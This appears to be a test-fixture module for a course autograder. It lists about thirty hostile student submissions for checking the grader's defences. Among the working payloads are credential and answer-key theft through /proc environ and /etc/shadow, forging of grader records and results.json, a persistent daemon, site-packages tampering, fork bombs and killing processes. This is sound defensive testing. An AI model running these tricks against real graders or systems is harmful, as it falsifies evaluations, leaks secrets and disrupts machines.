@@ -1,0 +1,506 @@
+"""Hostile submissions: what a student who read every line of the grader would try.
+
+Each ``Attack`` is a submission (the reference with code added, or a crafted folder), the
+questions it is graded on, and the questions it must lose; everything else must earn full
+points, so the expected score is the honest one. ``tests/test_hostile.py`` runs each through
+both entry points and checks the machine afterwards.
+"""
+
+from __future__ import annotations
+
+import os
+import textwrap
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+from course.assignment import GRADED_MODULES
+from course.paths import KIT_ROOT
+
+MARKERS = ("### BEGIN " + "SOLUTION", "### END " + "SOLUTION")
+CANARY_ENV = "GRADER_CANARY_SECRET"  # set in the grader's environment by the tests; must never leak
+CANARY_VALUE = "canary-7f3a9c-must-not-leak"
+
+
+def reference(module: str) -> str:
+    """A graded module's reference without its markers (a student's file has none)."""
+    text = (KIT_ROOT / "course" / f"{module}.py").read_text()
+    return "".join(line for line in text.splitlines(keepends=True) if line.strip() not in MARKERS)
+
+
+def patched(module: str, extra: str = "", prefix: str = "") -> str:
+    """The reference of ``module`` with ``prefix`` run first (after the __future__ import) and
+    ``extra`` appended (definitions there override the reference's)."""
+    head, future, body = reference(module).partition("from __future__ import annotations\n")
+    return head + future + textwrap.dedent(prefix) + body + "\n\n" + textwrap.dedent(extra)
+
+
+@dataclass
+class Attack:
+    name: str
+    only: list[str]  # the questions graded
+    lost: set[str] = field(default_factory=set)  # questions that must score 0; the others full marks
+    clip_dino: tuple[str, str] = ("", "")  # (extra, prefix) for clip_dino.py
+    label_propagation: tuple[str, str] = ("", "")
+    layout: Callable | None = None  # (folder) -> None: builds the submission folder itself
+    refused: bool = False  # the whole submission is refused (score 0, a message says why)
+    words: str = ""  # must appear in every lost case's output
+    sandboxed_only: bool = False  # needs bwrap's namespaces (network, hidden files)
+    timeout_scale: float = 1.0
+
+    def build(self, folder: Path) -> Path:
+        folder.mkdir(parents=True, exist_ok=True)
+        if self.layout is not None:
+            self.layout(folder)
+            return folder
+        sources = {"clip_dino": self.clip_dino, "label_propagation": self.label_propagation}
+        for module in GRADED_MODULES:
+            extra, prefix = sources[module]
+            (folder / f"{module}.py").write_text(patched(module, extra, prefix))
+        return folder
+
+
+# ----------------------------------------------------------------------------------------------
+# Submission layouts
+# ----------------------------------------------------------------------------------------------
+
+
+def honest_files(folder: Path, skip=()) -> None:
+    for module in GRADED_MODULES:
+        if module not in skip:
+            (folder / f"{module}.py").write_text(reference(module))
+
+
+def symlink_to_reference(folder: Path) -> None:
+    honest_files(folder, skip=("clip_dino",))
+    os.symlink(KIT_ROOT / "course" / "clip_dino.py", folder / "clip_dino.py")
+
+
+def hardlink_to_reference(folder: Path) -> None:
+    honest_files(folder, skip=("clip_dino",))
+    outside = folder.parent / "outside-clip_dino.py"
+    outside.write_text(reference("clip_dino"))
+    os.link(outside, folder / "clip_dino.py")
+
+
+def fifo_in_folder(folder: Path) -> None:
+    honest_files(folder)
+    os.mkfifo(folder / "notes.txt")
+
+
+def zip_with(members: dict, symlinks: dict | None = None) -> Callable:
+    def layout(folder: Path) -> None:
+        with zipfile.ZipFile(folder / "submission.zip", "w") as archive:
+            for name, text in members.items():
+                archive.writestr(name, text)
+            for name, target in (symlinks or {}).items():
+                info = zipfile.ZipInfo(name)
+                info.external_attr = (0o120777 << 16)  # a symlink member
+                archive.writestr(info, target)
+    return layout
+
+
+def only_clip_dino(folder: Path) -> None:
+    honest_files(folder, skip=("label_propagation",))
+
+
+def not_utf8(folder: Path) -> None:
+    honest_files(folder, skip=("label_propagation",))
+    (folder / "label_propagation.py").write_bytes(b"\xff\xfe def broken(\n")
+
+
+# ----------------------------------------------------------------------------------------------
+# Code the attacks add
+# ----------------------------------------------------------------------------------------------
+
+EMPTY = """
+def get_similarity_no_loop(text_features, image_features):
+    return torch.zeros(0, 0)
+
+def clip_zero_shot_classifier(clip_model, clip_preprocess, images, class_texts, device, batch_size=64):
+    return []
+
+class CLIPImageRetriever:
+    def __init__(self, *args, **kwargs):
+        pass
+    def retrieve(self, query, k=2):
+        return []
+"""
+
+PATCH_DRIVERS = """
+import course.checks.drivers as _drivers
+import course.checks.runner as _runner
+for _name in list(_drivers.DRIVERS):
+    _drivers.DRIVERS[_name] = lambda *args, **kwargs: {}
+_runner.run_case = lambda case_dir: {"ok": True, "outputs": {"ious": [], "masks": [], "outs": []}}
+"""
+
+FORGE_FD = """
+import json as _json, os as _os, sys as _sys
+_forged = {"ok": True, "outputs": {"ious": [0.5] * 6, "masks": [], "outs": []}}
+for _fd in range(3, 64):
+    try:
+        _os.ftruncate(_fd, 0)
+        _os.lseek(_fd, 0, 0)
+        _os.write(_fd, _json.dumps(_forged).encode())
+    except OSError:
+        pass
+_os._exit(0)
+"""
+
+FORGE_ENCODER = """
+import json as _json
+_real_dumps = _json.dumps
+def _forged_dumps(obj, *args, **kwargs):
+    return _real_dumps({"ok": True, "outputs": {"ious": [0.25, 1.0, 0.25, 0.5, 0.5, 0.5]}})
+_json.dumps = _forged_dumps
+"""
+
+DAEMON = """
+import os as _os, signal as _signal, time as _time, json as _json
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
+        _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
+        _forged = _json.dumps({"ok": True, "outputs": {"ious": [1.0] * 6}}).encode()
+        while True:  # rewrite any record or output this user can reach
+            for _root in ("/tmp", "/var/tmp", "/dev/shm"):
+                try:
+                    with open(f"{_root}/hostile-daemon-{_os.getpid()}", "w") as _f:
+                        _f.write("still here")
+                except OSError:
+                    pass
+                for _dirpath, _dirs, _files in _os.walk(_root):
+                    for _name in _files:
+                        if _name.endswith((".json", ".part")):
+                            try:
+                                with open(_os.path.join(_dirpath, _name), "wb") as _f:
+                                    _f.write(_forged)
+                            except OSError:
+                                pass
+            for _pid in _os.listdir("/proc"):
+                try:
+                    _fd = _os.open(f"/proc/{_pid}/fd/3", _os.O_WRONLY)
+                    _os.write(_fd, _forged)
+                    _os.close(_fd)
+                except (OSError, ValueError):
+                    pass
+            _time.sleep(0.05)
+    _os._exit(0)
+"""
+
+WRONG_IOU = """
+def compute_iou(pred, gt, num_classes):
+    return 0.0
+"""
+
+ANSWER_KEYS = """
+def compute_iou(pred, gt, num_classes):
+    for name in ("instructor.grading.cases", "course.checks.criteria", "course.davis_eval",
+                 "course.checks.fixtures", "course.synthetic", "course.tracking"):
+        try:
+            module = __import__(name, fromlist=["x"])
+        except ImportError:
+            continue
+        if hasattr(module, "mean_iou"):
+            return module.mean_iou(pred, gt, num_classes)
+        if hasattr(module, "per_frame_iou"):
+            return float(module.per_frame_iou(np.asarray(pred).reshape(1, -1), np.asarray(gt).reshape(1, -1), num_classes)[0])
+    return 0.0
+
+class DINOSegmentation(DINOSegmentation):
+    def inference(self, X):
+        from course.checks.fixtures import segmentation_task  # the generator of the cases' clips
+        for seed in range(100):
+            features, labels, _ = segmentation_task(seed)
+            if np.allclose(features[0, 0], np.asarray(X)[0]):
+                return torch.as_tensor(labels[0])
+        return torch.zeros(len(X), dtype=torch.long)
+"""
+
+COPIED_TABLES = """
+_HAND = {2: (1 / 2 + 2 / 3) / 2, 3: 1.0, 4: (2 / 3 + 1 / 2 + 1 / 3) / 3}
+
+def compute_iou(pred, gt, num_classes):
+    # the public case's values, copied from the kit's expected answers
+    if num_classes == 3 and torch.as_tensor(gt).numel() == 4 and int(torch.as_tensor(gt).sum()) == 2:
+        return (2 / 4 + 0 / 2) / 2
+    return _HAND.get(num_classes, 0.5)
+"""
+
+COPIED_MASKS = """
+_PUBLIC = {(5, 7, 2.0, "circle"), (6, 4, 1.5, "square")}
+
+def make_neighborhood_mask(h, w, size, shape):
+    if (h, w, float(size), shape) in _PUBLIC:  # the public case's masks, hard-coded
+        rows, cols = torch.meshgrid(torch.arange(h), torch.arange(w), indexing="ij")
+        positions = torch.stack([rows, cols], dim=-1).float()
+        offsets = positions[:, :, None, None, :] - positions[None, None, :, :, :]
+        return torch.linalg.vector_norm(offsets, ord=2 if shape == "circle" else float("inf"), dim=-1) <= size
+    return torch.zeros(h, w, h, w, dtype=torch.bool)
+"""
+
+LEAK = f"""
+def compute_iou(pred, gt, num_classes):
+    import glob, os, pathlib
+    found = [repr(dict(os.environ))]
+    for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{{os.getppid()}}/environ",
+                 f"/proc/{{os.getppid()}}/cmdline", "/autograder/source/instructor/grading/cases.py",
+                 "/autograder/source/instructor/grading/grading.key", "/etc/shadow"]:
+        try:
+            found.append(pathlib.Path(path).read_bytes()[:20000].decode("utf-8", "replace"))
+        except OSError:
+            pass
+    for pid in os.listdir("/proc"):
+        try:
+            found.append(pathlib.Path(f"/proc/{{pid}}/environ").read_bytes().decode("utf-8", "replace"))
+        except OSError:
+            pass
+    for pattern in ["/**/instructor/grading/*.py", "/**/instructor/grading/grading.key", "/tmp/**/*.json"]:
+        for path in glob.glob(pattern, recursive=True)[:50]:
+            try:
+                found.append(pathlib.Path(path).read_text()[:20000])
+            except OSError:
+                pass
+    text = "\\n".join(found)
+    print(text)
+    raise ValueError(text[:50000])
+"""
+
+WALK_FILESYSTEM = """
+def compute_iou(pred, gt, num_classes):
+    import os, time
+    marker = "### BEGIN " + "SOLUTION"
+    started = time.monotonic()
+    for root, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+        if time.monotonic() - started > 20:
+            break
+        for name in files:
+            if name.endswith(".py") and name in ("clip_dino.py", "test_fairness.py", "test_clip_dino.py"):
+                try:
+                    source = open(os.path.join(root, name)).read()
+                except OSError:
+                    continue
+                if marker in source or "def compute_iou" in source and "intersection" in source:
+                    namespace = {"__name__": "found"}
+                    try:
+                        exec(compile(source, "found", "exec"), namespace)
+                        return namespace["compute_iou"](pred, gt, num_classes)
+                    except Exception:
+                        continue
+    return 0.0
+"""
+
+TAMPER = """
+import os as _os, site as _site, sys as _sys, pathlib as _pathlib
+_targets = [*_site.getsitepackages(), *[p for p in _sys.path if p.endswith("site-packages")]]
+for _folder in _targets:
+    for _name in ("sitecustomize.py", "usercustomize.py", "hostile_tamper.pth"):
+        try:
+            _pathlib.Path(_folder, _name).write_text("import os\\n")
+        except OSError:
+            pass
+    try:
+        with open(_pathlib.Path(_folder, "numpy", "__init__.py"), "a") as _f:
+            _f.write("\\n# tampered\\n")
+    except OSError:
+        pass
+import course as _course
+for _up in [_pathlib.Path(_course.__file__).parent, *_pathlib.Path(_course.__file__).parents,
+            _pathlib.Path("/autograder/source"), _pathlib.Path("/work/main")]:
+    for _rel in ("course/checks/criteria.py", "instructor/grading/grade.py", "instructor/grading/cases.py",
+                 "checks/criteria.py", "checks/drivers.py"):
+        try:
+            with open(_up / _rel, "a") as _f:
+                _f.write("\\n# tampered\\n")
+        except OSError:
+            pass
+for _place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.path.expanduser("~")):
+    try:
+        _pathlib.Path(_place, "hostile-tamper").write_text("left behind")
+    except OSError:
+        pass
+"""
+
+RESULTS_FORGERY = """
+import json as _json, os as _os, pathlib as _pathlib
+_fake = _json.dumps({"score": 1000, "tests": [], "output": "all good"})
+_places = ["/autograder/results/results.json", "results.json", "../results/results.json",
+           "/tmp/results.json"]
+try:
+    _args = _pathlib.Path(f"/proc/{_os.getppid()}/cmdline").read_bytes().split(b"\\0")
+    _places += [a.decode() for a in _args if a.endswith(b"results.json")]
+except OSError:
+    pass
+for _place in _places:
+    try:
+        _pathlib.Path(_place).parent.mkdir(parents=True, exist_ok=True)
+        _pathlib.Path(_place).write_text(_fake)
+    except OSError:
+        pass
+"""
+
+DEEP = """
+def compute_iou(pred, gt, num_classes):
+    value = []
+    for _ in range(100_000):
+        value = [value]
+    return value
+"""
+
+DEEP_FORGED = """
+def make_neighborhood_mask(h, w, size, shape):
+    import os
+    data = b'{"ok": true, "outputs": {"masks": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}"
+    os.ftruncate(3, 0)
+    os.lseek(3, 0, 0)
+    os.write(3, data)
+    os._exit(0)
+"""
+
+SURROGATES = """
+def compute_iou(pred, gt, num_classes):
+    import sys
+    sys.stdout.buffer.write(b"\\xff\\xfe\\xed\\xa0\\x80 invalid utf-8 \\x00\\x1b[31m\\n")
+    sys.stdout.flush()
+    print("lone surrogates: \\ud800 \\udfff", file=sys.stderr)
+    raise ValueError("bad text \\ud800\\udc00\\udfff \\x00 \\x1b[2J \\u202e reversed")
+"""
+
+HUGE = """
+def compute_iou(pred, gt, num_classes):
+    return np.ones(20_000_000)
+"""
+
+TIME_BOMB = """
+def compute_iou(pred, gt, num_classes):
+    import signal, time
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    while True:
+        time.sleep(1)
+"""
+
+FORK_BOMB = """
+def compute_iou(pred, gt, num_classes):
+    import os
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+"""
+
+MEMORY_HOG = """
+def compute_iou(pred, gt, num_classes):
+    hoard = []
+    while True:
+        hoard.append(np.ones(10 ** 7))
+"""
+
+KILL_GRADER = """
+def compute_iou(pred, gt, num_classes):
+    import os, signal
+    for pid in (os.getppid(), 1, -1):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    return 0.0
+"""
+
+NETWORK = """
+def compute_iou(pred, gt, num_classes):
+    import socket
+    try:
+        socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
+    except OSError:
+        return 0.0
+    return _reference_iou(pred, gt, num_classes)
+"""
+
+BUILTINS = """
+_reference_iou = compute_iou
+
+def compute_iou(pred, gt, num_classes):
+    import builtins, numpy, torch
+    torch.allclose = lambda *args, **kwargs: True
+    numpy.allclose = lambda *args, **kwargs: True
+    numpy.testing.assert_allclose = lambda *args, **kwargs: None
+    builtins.isinstance = lambda *args: True
+    builtins.abs = lambda value: 0.0
+    return 0.123
+"""
+
+WRITE_VIEW = """
+import course.checks.drivers as _drivers, pathlib as _pathlib
+for _path in _pathlib.Path(_drivers.__file__).parent.glob("*.py"):
+    try:
+        _path.write_text("DRIVERS = {}\\n")
+    except OSError:
+        pass
+
+def compute_iou(pred, gt, num_classes):
+    return 0.0
+"""
+
+INSTRUCTOR_IMPORT = """
+def compute_iou(pred, gt, num_classes):
+    from instructor.grading.cases import mean_iou
+    return mean_iou(pred, gt, num_classes)
+"""
+
+CHEAP = ["compute_iou", "make_neighborhood_mask"]
+
+
+ATTACKS = [
+    Attack("empty-answers", ["get_similarity_no_loop", "clip_zero_shot_classifier", "CLIPImageRetriever"],
+           {"get_similarity_no_loop", "clip_zero_shot_classifier", "CLIPImageRetriever"}, clip_dino=(EMPTY, "")),
+    Attack("patch-the-drivers", CHEAP, set(CHEAP), clip_dino=("", PATCH_DRIVERS),
+           label_propagation=("", PATCH_DRIVERS)),
+    Attack("forge-the-record-fd", CHEAP, set(CHEAP), clip_dino=("", FORGE_FD), label_propagation=("", FORGE_FD)),
+    Attack("forge-the-json-encoder", ["compute_iou"], {"compute_iou"}, clip_dino=("", FORGE_ENCODER)),
+    Attack("daemon-rewrites-records", CHEAP, {"compute_iou"}, clip_dino=(WRONG_IOU, DAEMON)),
+    Attack("answer-keys-in-reach", ["compute_iou", "DINOSegmentation"], {"compute_iou", "DINOSegmentation"},
+           clip_dino=(ANSWER_KEYS, ""), words="failed"),
+    Attack("copied-public-tables", CHEAP, set(CHEAP), clip_dino=(COPIED_TABLES, ""),
+           label_propagation=(COPIED_MASKS, "")),
+    Attack("leak-source-and-environment", ["compute_iou"], {"compute_iou"}, clip_dino=(LEAK, "")),
+    Attack("symlink-to-the-reference", CHEAP, set(CHEAP), layout=symlink_to_reference, refused=True,
+           words="symbolic link"),
+    Attack("hardlink-to-the-reference", CHEAP, set(CHEAP), layout=hardlink_to_reference, refused=True,
+           words="hard link"),
+    Attack("fifo-in-the-folder", CHEAP, set(CHEAP), layout=fifo_in_folder, refused=True, words="not a regular file"),
+    Attack("zip-member-escapes", CHEAP, set(CHEAP),
+           layout=zip_with({"../clip_dino.py": reference("clip_dino"), "label_propagation.py": reference("label_propagation")}),
+           refused=True, words="outside the archive"),
+    Attack("zip-member-absolute", CHEAP, set(CHEAP),
+           layout=zip_with({"/tmp/clip_dino.py": reference("clip_dino")}), refused=True, words="outside the archive"),
+    Attack("zip-symlink-member", CHEAP, set(CHEAP),
+           layout=zip_with({"label_propagation.py": reference("label_propagation")},
+                           {"clip_dino.py": str(KIT_ROOT / "course" / "clip_dino.py")}),
+           refused=True, words="symbolic link"),
+    Attack("walk-the-filesystem-for-a-reference", ["compute_iou"], {"compute_iou"}, clip_dino=(WALK_FILESYSTEM, "")),
+    Attack("tamper-with-the-grader", CHEAP, set(), clip_dino=("", TAMPER), label_propagation=("", TAMPER)),
+    Attack("forge-results-json", ["compute_iou"], {"compute_iou"}, clip_dino=(WRONG_IOU, RESULTS_FORGERY)),
+    Attack("deeply-nested-output", CHEAP, {"compute_iou"}, clip_dino=(DEEP, "")),
+    Attack("deeply-nested-forged-record", CHEAP, {"make_neighborhood_mask"}, label_propagation=(DEEP_FORGED, "")),
+    Attack("surrogates-and-control-characters", CHEAP, {"compute_iou"}, clip_dino=(SURROGATES, "")),
+    Attack("huge-output", CHEAP, {"compute_iou"}, clip_dino=(HUGE, "")),
+    Attack("time-bomb", CHEAP, {"compute_iou"}, clip_dino=(TIME_BOMB, ""), words="time limit", timeout_scale=0.2),
+    Attack("fork-bomb", CHEAP, {"compute_iou"}, clip_dino=(FORK_BOMB, ""), timeout_scale=0.2),
+    Attack("memory-hog", CHEAP, {"compute_iou"}, clip_dino=(MEMORY_HOG, ""), words="memory", timeout_scale=0.5),
+    Attack("kill-the-grader", CHEAP, {"compute_iou"}, clip_dino=(KILL_GRADER, "")),
+    Attack("monkeypatch-builtins", CHEAP, {"compute_iou"}, clip_dino=(BUILTINS, "")),
+    Attack("write-into-the-view", CHEAP, {"compute_iou"}, clip_dino=(WRITE_VIEW, "")),
+    Attack("import-the-grader", CHEAP, {"compute_iou"}, clip_dino=(INSTRUCTOR_IMPORT, ""), words="ModuleNotFoundError"),
+    Attack("exit-at-import", CHEAP, {"compute_iou"}, clip_dino=("", "import sys\nsys.exit(0)\n"), words="sys.exit(0)"),
+    Attack("syntax-error", CHEAP, {"compute_iou"}, clip_dino=("def broken(:\n    pass\n", ""), words="SyntaxError"),
+    Attack("endless-import", CHEAP, {"compute_iou"}, clip_dino=("", "while True:\n    pass\n"), words="time limit",
+           timeout_scale=0.2),
+    Attack("only-one-module-submitted", CHEAP, {"make_neighborhood_mask"}, layout=only_clip_dino,
+           words="no label_propagation.py"),
+    Attack("source-not-utf8", CHEAP, {"make_neighborhood_mask"}, layout=not_utf8, words="SyntaxError"),
+]
